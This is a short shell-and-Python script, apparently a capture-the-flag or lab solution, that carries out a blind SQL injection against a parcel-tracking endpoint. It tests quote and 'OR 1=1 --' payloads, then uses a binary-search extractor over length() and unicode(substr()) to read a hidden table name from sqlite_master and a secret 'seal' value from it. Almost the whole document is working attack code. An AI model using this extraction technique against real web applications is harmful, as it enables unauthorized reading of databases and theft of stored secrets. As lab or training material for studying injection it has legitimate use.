#-- a known code, an unknown one, and a quote
code=$(curl -s http://app:8080/example | grep -o '[A-Z][0-9]\{9\}')
ask() { curl -s -G http://app:8080/track --data-urlencode "code=$1" | grep -o 'parcel is [a-z ]*'; }
ask "$code"; ask X; ask "'"
#-- whatever follows the quote is answered: true or false
ask "X' OR 1=1 --"; ask "X' OR 1=2 --"
#-- read text by halves: first the other table's definition, then the seal
cat > /tmp/blind.py <<'PY'
import http.client, sys, urllib.parse
line = http.client.HTTPConnection("app", 8080)
def true(condition):
    line.request("GET", "/track?code=" + urllib.parse.quote(f"X' OR ({condition}) --"))
    return b"on its way" in line.getresponse().read()
def number(expression, low, high):
    while low < high:
        middle = (low + high) // 2
        low, high = (middle + 1, high) if true(f"{expression} > {middle}") else (low, middle)
    return low
def text(query):
    length = number(f"length(({query}))", 0, 200)
    return "".join(chr(number(f"unicode(substr(({query}), {at}, 1))", 32, 126)) for at in range(1, length + 1))
table = text("SELECT name FROM sqlite_master WHERE type = 'table' AND name <> 'parcels'")
print(table, flush=True)
print(text(f"SELECT seal FROM {table} WHERE state = 'held'"))
PY
python3 /tmp/blind.py
